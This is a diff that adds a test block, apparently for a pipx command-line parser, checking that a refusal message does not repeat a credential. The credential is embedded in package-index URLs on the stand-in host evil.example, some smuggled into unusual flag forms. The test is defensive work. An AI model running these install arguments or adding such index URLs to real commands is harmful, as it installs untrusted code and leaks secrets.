@@ -137,3 +137,25 @@ describe('red team 6 F13/F16: ~ expanded as pipx expands it', () => {
     }
   });
 });
+
+describe('red team 46b R46b-1: a refusal quotes no credential', () => {
+  it.each([
+    [
+      'run',
+      '--pip-args',
+      '-q --index-url https://u:SECRETxyz0123@evil.example/simple',
+      'x'
+    ],
+    [
+      'install',
+      '--index-url',
+      '--zzz=https://u:SECRETxyz0123@evil.example/simple',
+      'x'
+    ],
+    ['install', '-qhttps:u:SECRETxyz0123@evil.example', 'x']
+  ])('pipx %s %s %s', (...args: string[]) => {
+    const line = parsePipx(args);
+    expect(typeof line).toBe('string');
+    expect(line).not.toContain('SECRETxyz0123');
+  });
+});
